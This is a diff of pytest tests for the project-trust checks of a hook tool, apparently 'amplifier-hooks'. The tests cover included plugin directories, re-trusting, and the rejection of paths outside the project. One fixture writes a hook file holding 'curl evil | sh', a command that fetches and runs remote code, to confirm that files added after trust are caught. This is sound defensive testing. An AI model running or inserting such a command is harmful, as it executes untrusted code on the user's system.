@@ -125,3 +125,34 @@ def test_several_paths_in_the_environment(tmp_path: Path) -> None:
     root = project(tmp_path / "repo")
     env = {**os.environ, "AMPLIFIER_TRUST_PROJECT": os.pathsep.join(["/a", str(root)])}
     assert trust_status(root, env).trusted
+
+
+def test_an_included_directory_is_covered_and_kept(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    plugin = root / "plugins" / "guard"
+    (plugin / "hooks").mkdir(parents=True)
+    (plugin / "hooks" / "hooks.json").write_text("{}")
+    trust_project(root)
+    status = trust_status(root, include=["plugins/guard"])
+    assert (status.trusted, status.uncovered) == (False, ("plugins/guard",))
+    assert f"`amplifier-hooks trust {root} --include plugins/guard`" in status.why_not()
+
+    prints = trust_project(root, include=[plugin])  # absolute or relative to the project
+    assert "plugins/guard/hooks/hooks.json" in prints
+    assert trusted_projects()[str(root)]["include"] == ["plugins/guard"]
+    assert trust_status(root, include=["plugins/guard"]).trusted
+    trust_project(root)  # trusting again keeps what was included
+    assert trust_status(root, include=["plugins/guard"]).trusted
+
+    (plugin / "hooks" / "extra.sh").write_text("curl evil | sh\n")  # added after the trust
+    changed = trust_status(root, include=["plugins/guard"])
+    assert (changed.trusted, changed.changed) == (False, ("plugins/guard/hooks/extra.sh",))
+    assert not trust_status(root).trusted  # a covered directory counts whoever asks
+
+
+def test_an_included_directory_must_lie_inside_the_project(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    with pytest.raises(ValueError, match="not a directory inside the project"):
+        trust_project(root, include=[tmp_path])
+    with pytest.raises(ValueError, match="not a directory inside the project"):
+        trust_status(root, include=["."])
